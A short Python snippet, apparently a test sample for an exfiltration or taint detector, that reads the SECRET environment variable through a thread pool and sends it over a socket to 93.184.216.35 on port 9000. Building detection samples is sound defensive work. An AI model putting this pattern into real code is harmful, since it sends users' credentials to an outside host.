"""A pool's thread calls os.getenv: below it is the standard library only."""
import concurrent.futures
import os
import socket

with concurrent.futures.ThreadPoolExecutor() as pool:
    secret = pool.submit(os.getenv, "SECRET").result()
socket.create_connection(("93.184.216.35", 9000)).sendall(secret.encode())
